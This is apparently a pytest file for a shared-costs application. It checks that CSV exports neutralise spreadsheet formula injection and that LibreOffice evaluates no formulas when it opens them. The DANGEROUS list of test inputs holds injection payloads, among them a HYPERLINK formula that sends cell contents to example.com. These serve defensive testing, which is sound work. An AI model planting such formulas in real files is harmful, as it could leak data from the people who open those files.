"""Every table as CSV, checked the way a treasurer would: opened in LibreOffice."""

from __future__ import annotations

import csv
import datetime as dt
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest

from partage.errors import UsageError
from partage.models import Base
from partage.services.costs import CostInput, add_cost
from partage.services.exchange_csv import export_csv, neutralise, restore
from partage.services.members import MemberInput, add_member

OFFICE = shutil.which("libreoffice") or shutil.which("soffice")
NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1;"cliquez")',
    "+1-555-0100",
    "-5 $ de rabais",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_could_start_a_formula_is_neutralised_and_restored(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["", "Anne Roy", "1 234,56 $", "'déjà cité", "a=b", "x-y"])
def test_harmless_text_is_left_alone(text):
    assert neutralise(text) == text
    assert restore(neutralise(text)) == text


@pytest.fixture
def risky(db):
    """Members and costs whose text a spreadsheet would run as formulas."""
    members = [add_member(db, MemberInput(name=name.strip() or "x", notes=name))
               for name in DANGEROUS[:5]]
    add_cost(db, CostInput(amount_cents=-500, start=dt.date(2026, 3, 1), note="=2*3",
                           supplier="@fournisseur", paid_by_member_id=members[0].id))
    add_cost(db, CostInput(amount_cents=123456, start=dt.date(2026, 3, 2), note="ordinaire"))
    return db


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def test_one_file_per_table_with_a_bom_a_header_and_every_row(risky, tmp_path):
    folder = tmp_path / "export"
    files = export_csv(risky, folder)
    assert {f.table for f in files} == {t.name for t in Base.metadata.sorted_tables} - {
        "presence", "data_revision"
    }
    assert sorted(p.name for p in folder.iterdir()) == sorted(f"{f.table}.csv" for f in files)
    members = folder / "members.csv"
    raw = members.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,name,name_key,")
    assert b"\r\n" in raw
    rows = read_rows(members)
    assert len(rows) == 5 == next(f.rows for f in files if f.table == "members")
    assert rows[0]["name"] == "'=1+1"
    assert [restore(r["notes"]) for r in rows] == DANGEROUS[:5]
    costs = read_rows(folder / "costs.csv")
    # Money stays an integer count of cents, negative amounts included.
    assert [r["amount_cents"] for r in costs] == ["-500", "123456"]
    assert costs[0]["note"] == "'=2*3" and costs[0]["supplier"] == "'@fournisseur"
    # Binary columns (receipts, photos, PDFs) are left to the JSON export.
    assert "receipt" not in costs[0] and "receipt_name" in costs[0]


def test_an_export_over_older_files_replaces_them_only_when_complete(risky, tmp_path):
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "members.csv").write_text("old", encoding="utf-8")

    def fail(done: int, total: int) -> None:
        raise OSError(28, "No space left on device")

    with pytest.raises(UsageError) as refused:
        export_csv(risky, folder, progress=fail)
    assert "could not be written" in str(refused.value)
    assert (folder / "members.csv").read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in folder.iterdir()) == ["members.csv"]  # no part files left
    export_csv(risky, folder)
    assert read_rows(folder / "members.csv")[0]["name"] == "'=1+1"


def test_a_file_where_the_folder_should_be_is_refused(risky, tmp_path):
    target = tmp_path / "members.csv"
    target.write_text("keep me", encoding="utf-8")
    with pytest.raises(UsageError):
        export_csv(risky, target)
    assert target.read_text(encoding="utf-8") == "keep me"


# --- LibreOffice ----------------------------------------------------------------------------


def open_in_libreoffice(csv_file: Path, workdir: Path) -> list[list[dict[str, str]]]:
    """The cells LibreOffice makes of *csv_file* with its default import (formulas
    evaluated), read from the spreadsheet it saves: value type, text, formula."""
    out = workdir / "converted"
    subprocess.run(
        [OFFICE, f"-env:UserInstallation={(workdir / 'profile').as_uri()}", "--headless",
         "--convert-to", "ods", "--outdir", str(out), str(csv_file)],
        check=True, capture_output=True, timeout=180,
    )
    with zipfile.ZipFile(out / f"{csv_file.stem}.ods") as archive:
        content = ET.fromstring(archive.read("content.xml"))
    rows = []
    for row in content.iterfind(".//table:table-row", NS):
        cells = []
        for cell in row.iterfind("table:table-cell", NS):
            repeat = int(cell.get(f"{{{NS['table']}}}number-columns-repeated", "1"))
            value = {
                "type": cell.get(f"{{{NS['office']}}}value-type", ""),
                "text": "\n".join("".join(p.itertext()) for p in cell.iterfind("text:p", NS)),
                "formula": cell.get(f"{{{NS['table']}}}formula", ""),
            }
            cells.extend([value] * min(repeat, 50))
        rows.append(cells)
    return rows


needs_office = pytest.mark.skipif(OFFICE is None, reason="LibreOffice (libreoffice-calc) needed")


@needs_office
def test_libreoffice_would_run_the_raw_text_as_a_formula(tmp_path):
    # The control: without neutralising, the same file does turn into a formula result.
    raw = tmp_path / "raw.csv"
    raw.write_bytes("\ufeffname,amount_cents\r\n=1+1,-500\r\n".encode())
    rows = open_in_libreoffice(raw, tmp_path)
    assert rows[1][0]["formula"] == "of:=1+1" and rows[1][0]["text"] == "2"


@needs_office
def test_an_export_opened_in_libreoffice_has_no_formula_and_numeric_money(risky, tmp_path):
    folder = tmp_path / "export"
    export_csv(risky, folder)
    members = open_in_libreoffice(folder / "members.csv", tmp_path)
    costs = open_in_libreoffice(folder / "costs.csv", tmp_path)
    for rows in (members, costs):
        assert [c for row in rows for c in row if c["formula"]] == []
    header = [c["text"] for c in members[0]]
    names = [row[header.index("name")] for row in members[1:]]
    # Each name stays text, shown behind the apostrophe that neutralised it.
    assert [(c["type"], c["text"]) for c in names] == [
        ("string", "'" + name.strip()) for name in DANGEROUS[:5]
    ]
    header = [c["text"] for c in costs[0]]
    amounts = [row[header.index("amount_cents")] for row in costs[1:]]
    assert [(c["type"], c["text"]) for c in amounts] == [("float", "-500"), ("float", "123456")]
    notes = [row[header.index("note")]["text"] for row in costs[1:]]
    assert notes == ["'=2*3", "ordinaire"]
